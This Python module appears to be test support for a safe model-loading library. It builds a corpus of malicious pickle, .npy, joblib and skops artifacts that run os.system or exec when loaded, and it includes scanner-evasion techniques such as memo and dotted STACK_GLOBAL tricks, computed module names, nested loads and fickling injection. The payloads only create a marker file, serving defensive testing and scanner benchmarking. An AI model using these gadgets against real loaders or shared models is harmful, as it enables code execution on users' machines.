"""Attacker-style model artifacts, each of which creates a marker file when loaded without protection.

Shared by ``test_safety_corpus.py`` (every payload is refused and the marker never appears; loaded with
plain :mod:`pickle` in a child process, every payload does create its marker, so the corpus is
real) and ``bench/bench_safety.py`` (the same corpus through picklescan and modelscan).
"""

from __future__ import annotations

import builtins
import io
import json
import marshal
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np


@dataclass(frozen=True)
class Payload:
    """One artifact: its file name (the extension tells scanners the format) and its bytes."""

    name: str
    filename: str
    data: bytes
    kind: str = "pickle"  # "pickle", "npy", "joblib" or "skops": how an unprotected loader reads it


class Call:
    """Pickles as ``fn(*args)``; ``fn`` and ``args`` may be Calls themselves (nested reductions)."""

    def __init__(self, fn: Any, *args: Any) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.fn, self.args)

    def __call__(self, *args: Any) -> Any:  # pickle insists that a reduce's function is callable
        raise NotImplementedError


def _str(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE


def stack_global(module: str, qualname: str, arg: str, *, memo: bool = False, proto: int = 4) -> bytes:
    """``module`` + ``qualname`` via STACK_GLOBAL, called with one string argument."""
    body = _str(module) + (b"\x94" if memo else b"") + _str(qualname) + (b"\x94" if memo else b"")
    if memo:  # drop both strings, fetch them back from the memo
        body += b"00h\x00h\x01"
    return bytes([0x80, proto]) + body + b"\x93" + _str(arg) + b"\x85R."


def _computed_name(command: str) -> bytes:
    """The module name is the result of a call (str('os')), so no scanner can read it as a constant."""
    to_str = _str("builtins") + _str("str") + b"\x93"
    module = to_str + _str("os") + b"\x85R"  # str('os')
    return b"\x80\x04" + module + _str("system") + b"\x93" + _str(command) + b"\x85R."


def _evil(command: str) -> Call:
    return Call(os.system, command)


def _shell(marker: Path) -> str:
    return f"touch {marker}"


def _python(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _joblib_bytes(obj: Any, compress: int = 0) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump(obj, buffer, compress=compress)
    return buffer.getvalue()


def _npy_bytes(obj: Any) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([obj, 1], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def _fickled(marker: Path) -> bytes:
    """A real scikit-learn pipeline's pickle with a Python exec injected by fickling."""
    from fickling.fickle import Pickled
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    model = make_pipeline(StandardScaler(), LogisticRegression()).fit(
        [[0.0], [1.0], [2.0], [3.0]], [0, 0, 1, 1]
    )
    pickled = Pickled.load(pickle.dumps(model, protocol=4))
    pickled.insert_python_exec(_python(marker), run_first=True)
    return pickled.dumps()


def _fickled_eval(marker: Path) -> bytes:
    from fickling.fickle import Pickled
    from sklearn.tree import DecisionTreeClassifier

    model = DecisionTreeClassifier().fit([[0.0], [1.0]], [0, 1])
    pickled = Pickled.load(pickle.dumps(model, protocol=2))
    pickled.insert_python_eval(f"__import__('os').system({_shell(marker)!r})", run_first=False)
    return pickled.dumps()


def build_corpus(marker: Path, workdir: Path) -> list[Payload]:
    """Every payload writes ``marker`` when it fires; ``workdir`` holds files nested loads read."""
    workdir.mkdir(parents=True, exist_ok=True)
    shell, inner = _shell(marker), pickle.dumps(_evil(_shell(marker)))
    (workdir / "inner.pkl").write_bytes(inner)
    (workdir / "inner.npy").write_bytes(_npy_bytes(_evil(shell)))
    (workdir / "inner.joblib").write_bytes(_joblib_bytes(_evil(shell)))
    code = marshal.dumps(compile(f"import os; os.system({shell!r})", "<payload>", "exec"))
    items: list[tuple[str, Callable[[], bytes], str, str]] = [
        (
            "issue: uuid + os.system (dotted STACK_GLOBAL)",
            lambda: stack_global("uuid", "os.system", shell),
            "pkl",
            "pickle",
        ),
        *(
            (
                f"os.system via __reduce__, protocol {p}",
                lambda p=p: pickle.dumps(_evil(shell), protocol=p),
                "pkl",
                "pickle",
            )
            for p in range(6)
        ),
        (
            "text GLOBAL builtins.eval (protocol 0)",
            lambda: f"c__builtin__\neval\n(V__import__('os').system({shell!r})\ntR.".encode(),
            "pkl",
            "pickle",
        ),
        ("INST os.system (protocol 0)", lambda: f"(V{shell}\nios\nsystem\n.".encode(), "pkl", "pickle"),
        ("STACK_GLOBAL os.system, no memo", lambda: stack_global("os", "system", shell), "pkl", "pickle"),
        (
            "STACK_GLOBAL os.system from the memo",
            lambda: stack_global("os", "system", shell, memo=True),
            "pkl",
            "pickle",
        ),
        ("STACK_GLOBAL with a computed module name", lambda: _computed_name(shell), "pkl", "pickle"),
        (
            "getattr(__import__('os'), 'system')",
            lambda: pickle.dumps(
                Call(Call(getattr, Call(builtins.__import__, "os"), "system"), shell), protocol=4
            ),
            "pkl",
            "pickle",
        ),
        (
            "os.makedirs re-exported by sklearn.datasets._base",
            lambda: stack_global("sklearn.datasets._base", "makedirs", str(marker)),
            "pkl",
            "pickle",
        ),
        ("nested pickle.loads", lambda: pickle.dumps(Call(pickle.loads, inner), protocol=4), "pkl", "pickle"),
        (
            "nested loads via joblib._memmapping_reducer.loads",
            lambda: _named_call("joblib._memmapping_reducer", "loads", inner),
            "pkl",
            "pickle",
        ),
        (
            "nested numpy.load(allow_pickle=True)",
            lambda: pickle.dumps(Call(np.load, str(workdir / "inner.npy"), None, True), protocol=4),
            "pkl",
            "pickle",
        ),
        (
            "nested joblib.load",
            lambda: _named_call("joblib", "load", str(workdir / "inner.joblib")),
            "pkl",
            "pickle",
        ),
        (
            "nested pandas.read_pickle",
            lambda: _named_call("pandas", "read_pickle", str(workdir / "inner.pkl")),
            "pkl",
            "pickle",
        ),
        (
            "dotted: pandas + io.pickle.read_pickle",
            lambda: _named_call("pandas", "io.pickle.read_pickle", str(workdir / "inner.pkl")),
            "pkl",
            "pickle",
        ),
        (
            "marshal.loads + exec",
            lambda: pickle.dumps(Call(exec, Call(marshal.loads, code)), protocol=4),
            "pkl",
            "pickle",
        ),
        ("numpy object array (.npy, allow_pickle)", lambda: _npy_bytes(_evil(shell)), "npy", "npy"),
        ("joblib file", lambda: _joblib_bytes(_evil(shell)), "joblib", "joblib"),
        ("joblib file, zlib-compressed", lambda: _joblib_bytes(_evil(shell), compress=3), "joblib", "joblib"),
        ("fickling: exec injected into a real pipeline", lambda: _fickled(marker), "pkl", "pickle"),
        (
            "fickling: eval injected into a real tree (protocol 2)",
            lambda: _fickled_eval(marker),
            "pkl",
            "pickle",
        ),
        (
            "skops: ConstructorFromReduceNode sklearn.datasets._base.makedirs",
            lambda: skops_gadget("sklearn.datasets._base", "makedirs", str(marker)),
            "skops",
            "skops",
        ),
        (
            "skops: ConstructorFromReduceNode joblib._memmapping_reducer.loads",
            lambda: skops_gadget("joblib._memmapping_reducer", "loads", inner),
            "skops",
            "skops",
        ),
    ]
    return [
        Payload(name, f"payload-{i:02d}.{ext}", build(), kind)
        for i, (name, build, ext, kind) in enumerate(items)
    ]


def _named_call(module: str, qualname: str, arg: Any) -> bytes:
    """``module`` + ``qualname`` (possibly dotted) called with one argument (str or bytes), protocol 4."""
    if isinstance(arg, bytes):
        argument = (
            b"C" + bytes([len(arg)]) + arg if len(arg) < 256 else b"B" + struct.pack("<I", len(arg)) + arg
        )
    else:
        raw = arg.encode()
        argument = b"X" + struct.pack("<I", len(raw)) + raw
    return b"\x80\x04" + _str(module) + _str(qualname) + b"\x93" + argument + b"\x85R."


def skops_gadget(module: str, name: str, arg: Any) -> bytes:
    """A model.skops whose root object is ``module.name(arg)`` (skops' ConstructorFromReduceNode)."""
    from skops.io._protocol import PROTOCOL

    files: dict[str, bytes] = {}
    if isinstance(arg, bytes):
        files["arg.bin"] = arg
        value: dict[str, Any] = {
            "__class__": "bytes",
            "__module__": "builtins",
            "__loader__": "BytesNode",
            "file": "arg.bin",
        }
    else:
        value = {
            "__class__": "str",
            "__module__": "builtins",
            "__loader__": "JsonNode",
            "content": json.dumps(arg),
            "is_json": True,
        }
    schema = {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [value],
        },
        "protocol": PROTOCOL,
        "_skops_version": "0.16.0",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
        for path, data in files.items():
            archive.writestr(path, data)
    return buffer.getvalue()
